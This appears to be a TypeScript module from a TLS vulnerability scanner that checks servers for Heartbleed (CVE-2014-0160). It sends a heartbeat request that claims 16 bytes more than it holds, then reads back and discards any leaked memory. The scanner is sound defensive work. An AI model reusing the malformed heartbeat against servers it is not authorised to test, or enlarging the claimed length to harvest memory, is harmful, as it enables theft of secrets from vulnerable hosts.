import { randomBytes } from 'node:crypto';
import type { HeartbleedProof, TlsVersion } from '../../../model/probe.ts';
import { CIPHERS } from '../../logic/tls-ciphers.ts';
import { type Conversation, ConversationEnded } from '../../scanner/conversation.ts';
import { converse, type ProbeTarget } from '../contract.ts';
import { hello, MOST_RECORDS, readRecord, type TlsRecord } from './handshake.ts';
import { CIPHERS_12, RECORD, codeOf, record, u16 } from './wire.ts';

/** How much more we claim to have sent than we did: that much memory comes back, is counted and thrown away. */
const CLAIMED_MORE = 16;
/**
 * During a handshake OpenSSL keeps what it writes until 4096 bytes are together, so a small answer would never leave
 * it. Our own payload, which comes back too, fills that up; the leak stays as small as it is.
 */
const SENT = 4096;
/** RFC 6520 §4: a proper message carries at least this much padding. */
const PADDING = 16;
/**
 * Before the proper one is said for the first time: so many times as long as the server took for its hello. Too short is no
 * harm: whoever has the hole answers the first one first.
 */
const PATIENCE = 4;
const SHORTEST_PAUSE_MS = 100;
const PAUSE_MS = 500;
const PROOF_MS = 4000;
const REQUEST = 1;
const RESPONSE = 2;

/**
 * All ciphers, first those whose handshake asks no work of the server's key: the proof needs none of it, and the others cost
 * a server a signature each time.
 */
const EASY_FIRST = [...new Set([...CIPHERS.staticRsa, ...CIPHERS_12])];

/** By a handshake of its own. null: it did not get as far as heartbeats. */
export function lookForLeak(target: ProbeTarget, version: TlsVersion): Promise<HeartbleedProof | null> {
  return converse(target, PROOF_MS, async (conversation) => {
    const options = { heartbeat: true, serverName: target.serverName, ciphers: EASY_FIRST };
    const began = performance.now();
    const flight = await hello(conversation, version, options);
    const took = performance.now() - began;
    if (flight.kind !== 'hello' || !flight.complete || !flight.hello.heartbeat) return null;
    return proveHeartbleed(conversation, version, took);
  });
}

/**
 * CVE-2014-0160. `conversation` stands after ServerHelloDone with heartbeats negotiated. Two requests follow each
 * other: one that claims 16 bytes more than it holds, then a proper one. A vulnerable server answers the first with
 * bytes of its own memory; a sound one passes over it and answers the second, which proves that it did. The pauses
 * matter: many servers take one record off their socket at a time and look again only when more arrives.
 */
async function proveHeartbleed(
  conversation: Conversation,
  version: TlsVersion,
  helloMs: number,
): Promise<HeartbleedProof> {
  const long = randomBytes(SENT);
  let proper: Buffer | null = null;
  let pause = Math.min(PAUSE_MS, Math.max(SHORTEST_PAUSE_MS, PATIENCE * helloMs));
  let judged: Judged | null = null;
  try {
    conversation.write(heartbeat(version, long, SENT + CLAIMED_MORE, 0));
    for (let nudges = 0; nudges < 2 && !(await conversation.arrives(pause)); nudges++) {
      proper ??= randomBytes(SENT);
      conversation.write(heartbeat(version, proper, SENT, PADDING));
      pause = PAUSE_MS;
    }
    for (let records = 0; records < MOST_RECORDS && !judged; records++) {
      judged = judge(await readRecord(conversation), { long, proper });
    }
  } catch (error) {
    if (!(error instanceof ConversationEnded)) throw error;
    judged =
      error.ended === 'closed'
        ? { verdict: 'safe', reason: 'the over-long heartbeat was refused: connection closed' }
        : { verdict: 'unknown', reason: `no answer to either heartbeat: ${error.message}` };
  }
  judged ??= { verdict: 'unknown', reason: 'many records came, and no answer among them' };
  return { leakedBytes: 0, ...judged, extension: true, version };
}

type Judged = Pick<HeartbleedProof, 'verdict' | 'reason'> & { leakedBytes?: number };

/** Null: this record says nothing either way. */
function judge(answer: TlsRecord | null, sent: { long: Buffer; proper: Buffer | null }): Judged | null {
  if (!answer) return { verdict: 'unknown', reason: 'what followed the handshake was not TLS' };
  if (answer.type === RECORD.alert)
    return { verdict: 'safe', reason: 'the over-long heartbeat was refused with an alert' };
  const echoed = answer.type === RECORD.heartbeat ? readHeartbeat(answer.body) : null;
  if (!echoed) return null;
  if (sent.proper && echoed.equals(sent.proper)) {
    return { verdict: 'safe', reason: 'the over-long heartbeat was ignored, a proper one answered' };
  }
  const leakedBytes = echoed.length - SENT;
  if (leakedBytes <= 0 || !echoed.subarray(0, SENT).equals(sent.long)) return null;
  const reason = `a heartbeat of ${SENT} bytes was answered with ${leakedBytes} bytes of the server's memory`;
  return { verdict: 'vulnerable', leakedBytes, reason };
}

function heartbeat(version: TlsVersion, payload: Buffer, claimed: number, padding: number): Buffer {
  const body = Buffer.concat([Buffer.from([REQUEST]), u16(claimed), payload, randomBytes(padding)]);
  return record(RECORD.heartbeat, codeOf(version), body);
}

/** The payload of a heartbeat response, as long as the response says it is. */
function readHeartbeat(body: Buffer): Buffer | null {
  if (body.length < 3 || body[0] !== RESPONSE) return null;
  const length = body.readUInt16BE(1);
  return 3 + length <= body.length ? body.subarray(3, 3 + length) : null;
}
